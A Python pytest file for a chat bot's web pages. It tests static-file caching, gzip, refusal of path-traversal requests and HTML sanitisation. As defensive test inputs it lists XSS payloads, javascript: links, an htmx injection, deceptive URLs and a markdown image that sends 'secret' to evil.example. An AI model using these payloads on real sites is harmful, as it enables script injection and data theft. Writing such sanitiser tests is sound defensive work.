"""Tests of what all pages share: static files, layout and safe HTML."""

from __future__ import annotations

import gzip
import re
from collections.abc import AsyncIterator
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.settings_loading import load_settings
from bot.web import pages as layout
from bot.web.auth.security import mount_security
from bot.web.chat.routes import HERE
from bot.web.pages import Assets, add_pages
from bot.web.pages.safe_html import (
    answer_html,
    parts_html,
    passage_html,
    plain_html,
    quote_html,
)
from rag.parts import (
    CitedText,
    Code,
    Item,
    ItemList,
    Omission,
    Quotation,
    Table,
    paragraph,
)

STYLE = "body { margin: 0; }\n" * 50
WHOLE_PAGE_BYTES = 150_000
NOT_SHOWN = re.compile(r"^\.(\w+)\[hidden\] \{ display: none; \}$", re.MULTILINE)


@pytest.fixture
def assets(tmp_path: Path) -> Assets:
    folder = tmp_path / "static"
    folder.mkdir()
    folder.joinpath("style.css").write_text(STYLE)
    folder.joinpath("dot.bin").write_bytes(b"\x00\x01")
    tmp_path.joinpath("secret.txt").write_text("secret")
    return Assets(folder)


@pytest.fixture
async def client(assets: Assets) -> AsyncIterator[TestClient]:  # type: ignore[type-arg]  # generic only in stubs
    app = web.Application()
    app.router.add_get("/static/{name}", assets.serve)
    async with TestClient(TestServer(app), auto_decompress=False) as opened:
        yield opened


async def test_a_versioned_file_may_be_kept_for_ever(assets: Assets, client: TestClient) -> None:  # type: ignore[type-arg]  # generic only in stubs
    sent = await client.get(assets.link("style.css"))

    assert sent.headers["Cache-Control"] == "public, max-age=31536000, immutable"
    assert sent.content_type == "text/css"


@pytest.mark.parametrize("address", ["/static/style.css", "/static/style.css?v=old"])
async def test_any_other_version_is_asked_for_each_time(client: TestClient, address: str) -> None:  # type: ignore[type-arg]  # generic only in stubs
    assert (await client.get(address)).headers["Cache-Control"] == "no-cache"


async def test_text_is_packed_for_those_who_can_unpack(client: TestClient) -> None:  # type: ignore[type-arg]  # generic only in stubs
    packed = await client.get("/static/style.css", headers={"Accept-Encoding": "gzip"})
    plain = await client.get("/static/style.css", headers={"Accept-Encoding": "identity"})

    assert gzip.decompress(await packed.read()).decode() == await plain.text() == STYLE
    assert len(await packed.read()) < len(STYLE) / 5
    assert packed.headers["Vary"] == plain.headers["Vary"] == "Accept-Encoding"


async def test_those_who_have_it_are_told_so(client: TestClient) -> None:  # type: ignore[type-arg]  # generic only in stubs
    tag = (await client.get("/static/style.css")).headers["ETag"]

    again = await client.get("/static/style.css", headers={"If-None-Match": tag})

    assert again.status == 304
    assert await again.read() == b""


async def test_what_cannot_be_packed_is_sent_as_it_is(client: TestClient) -> None:  # type: ignore[type-arg]  # generic only in stubs
    sent = await client.get("/static/dot.bin", headers={"Accept-Encoding": "gzip"})

    assert await sent.read() == b"\x00\x01"


@pytest.mark.parametrize("name", ["none.css", "..%2Fsecret.txt", "..", "%2e%2e%2fsecret.txt"])
async def test_nothing_outside_the_folder_is_sent(client: TestClient, name: str) -> None:  # type: ignore[type-arg]  # generic only in stubs
    sent = await client.get(f"/static/{name}")

    assert sent.status == 404
    assert b"secret" not in await sent.read()


def test_the_version_follows_the_content(tmp_path: Path) -> None:
    file = tmp_path / "a.css"
    links = set()
    for content in ("one", "two", "one"):
        file.write_text(content)
        links.add(Assets(tmp_path).link("a.css"))

    assert len(links) == 2


def test_everything_the_chat_loads_is_light() -> None:
    files = [
        path
        for root in (layout.HERE, HERE)
        for path in (root / "static").iterdir()
        if path.suffix in {".css", ".js", ".svg"}
    ]

    assert sum(path.stat().st_size for path in files) < WHOLE_PAGE_BYTES * 0.7


Client = TestClient[web.Request, web.Application]


async def _thing(_: web.Request) -> web.Response:
    raise web.HTTPNotFound(text="There is no such thing.")


@pytest.fixture
async def framed_client(tmp_path: Path) -> AsyncIterator[Client]:
    (tmp_path / "static").mkdir()
    app = web.Application()
    mount_security(app, load_settings(_env_file=None, data_dir=tmp_path))
    add_pages(app, tmp_path)
    app.router.add_get("/thing", _thing)
    async with TestClient(TestServer(app)) as opened:
        yield opened


async def test_who_looks_for_a_page_that_is_none_is_shown_one(framed_client: Client) -> None:
    response = await framed_client.get("/nope", headers={"Accept": "text/html,*/*;q=0.8"})

    assert response.status == 404
    assert "<h1>Page not found</h1>" in await response.text()


async def test_programs_get_what_they_always_got(framed_client: Client) -> None:
    response = await framed_client.get("/nope", headers={"Accept": "application/json"})

    assert response.status == 404
    assert "<html" not in await response.text()


async def test_what_a_page_itself_says_is_missing_is_left_to_it(framed_client: Client) -> None:
    response = await framed_client.get("/thing", headers={"Accept": "text/html"})

    assert response.status == 404
    assert "There is no such thing." in await response.text()


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "[click][1]\n\n[1]: https://evil.example",
    "<https://evil.example>",
    "[x](javascript:alert(1))",
    '"><svg onload=alert(1)>',
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| 1 | 2 |",
    '```x" onclick="alert(1)\ncode\n```',
    '<button hx-get="/pages/IT/x" hx-trigger="load">x</button>',
    "\ue000<b>\ue001",
]
ALLOWED = (
    r"<(?!/?(?:p|ol|ul|li|mark|code|pre|blockquote|table|thead|tbody|tr|th|td)>"
    r"|br />|mark id=\"quote\">"
    r"|pre role=\"group\" aria-label=\"Code\" tabindex=\"0\">"
    r"|code class=\"[^\"]*\">|/?div"
    r"|a class=\"mark\" href=\"#[^\"]*\" aria-label=\"[^\"]*\">|/a>)"
)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_link_image_or_script_comes_out_of_text(text: str) -> None:
    parts = (Quotation((paragraph(text), Code(text, text), Table((text,), ((text,),))), (1,)),)
    shown = parts_html(parts, "i", [""])
    assert not re.search("(?i)<(?:script|img|svg|b>|button hx)|href=.http", shown)
    for html in (answer_html(text, "i", 1), passage_html(text, [text]), quote_html(text)):
        assert not re.search(ALLOWED, html)
        assert 'href="http' not in html


def test_a_code_block_that_is_too_wide_can_be_scrolled_by_keyboard() -> None:
    assert '<pre role="group" aria-label="Code" tabindex="0"><code>x' in answer_html(
        "```\nx\n```", "i", 0
    )


def test_a_mark_leads_to_its_source() -> None:
    html = answer_html("Open the client. [1]", "abc", 1)

    assert '<a class="mark" href="#s-abc-1" aria-label="Source 1">1</a>' in html


def test_an_index_in_code_is_no_mark() -> None:
    assert "items[1]" in answer_html("Use `items[1]`.", "abc", 1)


def test_the_backslashes_of_a_path_are_kept() -> None:
    path = "\\\\print.example\\QM-Print"

    assert path in answer_html(f"> {path} [1]", "abc", 1)
    assert path in quote_html(path)


PAGES = ["https://wiki.example.com/vpn", "/pages/IT/x"]


def test_each_kind_of_part_has_its_element() -> None:
    steps = ItemList(
        (Item(CitedText("Open.", (2,)), (Code("a <b>\n  c"),)),), start=3, ordered=True
    )
    parts = (steps, Table(("Code", "Cure"), (("809", "`x|y`"), ("", "**z**")), (1,)))

    html = parts_html(parts, "abc", PAGES)

    assert '<ol start="3"><li dir="auto">Open. <a class="mark" href="#s-abc-2"' in html
    assert "<code>a &lt;b&gt;\n  c</code></pre>" in html
    assert '<th scope="col" dir="auto">Code</th>' in html
    assert '<td dir="auto"><code>x|y</code></td>' in html
    assert '<td dir="auto"></td><td dir="auto"><strong>z</strong></td>' in html
    assert 'href="#s-abc-1"' in html


def test_a_copy_button_is_not_displayed_until_a_script_shows_it() -> None:
    html = parts_html((Code("x"),), "i", PAGES)
    button = re.search(r'<button [^>]*class="([^"]+)" hidden>', html)
    style = (layout.HERE / "static" / "style.css").read_text()

    assert button
    assert set(button[1].split()) & set(NOT_SHOWN.findall(style))


def test_a_quotation_names_its_page_and_what_is_left_out_is_outside_of_it() -> None:
    parts = (Quotation((paragraph("a"), Table((), (("1",),))), (1,)), Omission("steps", 2, 4))

    html = parts_html(parts, "abc", PAGES)

    assert f'<blockquote cite="{PAGES[0]}"><p dir="auto">a</p>' in html
    assert "<thead" not in html
    assert html.index("#s-abc-1") < html.index("</blockquote>") < html.index("steps 2 to 4")


@pytest.mark.parametrize("text", ["<@U1>", "<at>x</at>", "# a\n- b", "1. c", "> d", "| e | f |"])
def test_nothing_in_a_part_opens_another_one(text: str) -> None:
    parts = (paragraph(text), ItemList((Item(CitedText(text)),)), Table((text,), ((text,),)))

    html = parts_html(parts, "i", PAGES)

    assert html.count("<p ") == html.count("<li ") == html.count("<td ") == 1
    assert not re.search(r"<(?:h\d|ol|blockquote|at|@)", html)


def test_a_row_that_was_cut_out_of_a_table_is_shown_as_a_row() -> None:
    html = quote_html("| 443 | VPN |")

    assert "<td>443</td>" in html
    assert "<th" not in html


def test_a_whole_table_keeps_its_head() -> None:
    assert "<th>Port</th>" in quote_html("| Port | Use |\n|---|---|\n| 443 | VPN |")


def test_headings_of_a_page_stand_below_those_of_ours() -> None:
    assert "<h3>Setup</h3>" in passage_html("# Setup")


def test_a_mark_without_a_source_stays_text() -> None:
    assert "[2]" in answer_html("See [2].", "abc", 1)


def test_the_quote_is_highlighted_where_it_stands() -> None:
    html = passage_html("First.\n\n- Open it.\n- Close it.\n\nLast.", ["- Open it.\n- Close it."])

    assert html.count("<mark") == 2
    assert '<mark id="quote">Open it.</mark>' in html
    assert "First.</p>" in html


def test_each_cell_of_a_quoted_row_is_highlighted() -> None:
    table = "| Port | Use |\n|---|---|\n| 443 | VPN |\n| 22 | SSH |"

    html = passage_html(table, ["| 443 | VPN |"])

    assert '<td><mark id="quote">443</mark></td>' in html
    assert "<td><mark>VPN</mark></td>" in html
    assert "<td>22</td>" in html


def test_a_quote_that_is_not_there_highlights_nothing() -> None:
    assert "<mark" not in passage_html("Open it.", ["Close it."])


def test_several_quotes_are_highlighted_once_each_also_where_they_overlap() -> None:
    html = passage_html("Open it. Close it. Wait.", ["Close it.", "it. Close", "Open it."])

    assert re.findall("<mark.*?>(.*?)</mark>", html) == ["Open it. Close it."]


@given(text=st.text(max_size=300), quote=st.text(max_size=50))
def test_any_text_gives_balanced_marks_and_no_raw_tags(text: str, quote: str) -> None:
    html = passage_html(text, [quote])

    assert html.count("<mark") == html.count("</mark>")
    assert "<script" not in html.lower()


class Reader(HTMLParser):
    """Notes every tag and what a browser would show."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.shown = ""
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_data(self, data: str) -> None:
        self.shown += data


def test_an_https_address_is_a_link_without_the_sentence_around_it() -> None:
    html = plain_html("See (https://help.example/vpn?a=1&b=2), then call.\nAnna")

    assert Reader(html).links == ["https://help.example/vpn?a=1&b=2"]
    assert Reader(html).shown == "See (https://help.example/vpn?a=1&b=2), then call.\nAnna"
    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize(
    "text",
    [
        "http://help.example",
        "javascript:alert(1)",
        "https://bank.example@evil.example/",
        "https://",
        "https://[::1",
        "https://b\u0430nk.example/",
        "//evil.example",
        "data:text/html,x",
        "[here](javascript:alert(1))",
    ],
)
def test_what_may_lead_elsewhere_than_it_says_is_no_link(text: str) -> None:
    assert Reader(plain_html(text)).tags == []


def test_what_turns_the_direction_of_the_text_is_left_out() -> None:
    assert plain_html("a\u202eb\x00c") == "abc"


@given(st.text(st.sampled_from("ab \n<>&\"'/:.@https\u202e\u200b()"), max_size=200))
def test_whatever_is_written_is_shown_as_it_is_and_links_only_where_it_says(text: str) -> None:
    html = plain_html(text)
    read = Reader(html)

    assert set(read.tags) <= {"a"}
    assert all(link.startswith("https://") and link in unescape(html) for link in read.links)
    assert read.shown == re.sub("\u202e", "", text)
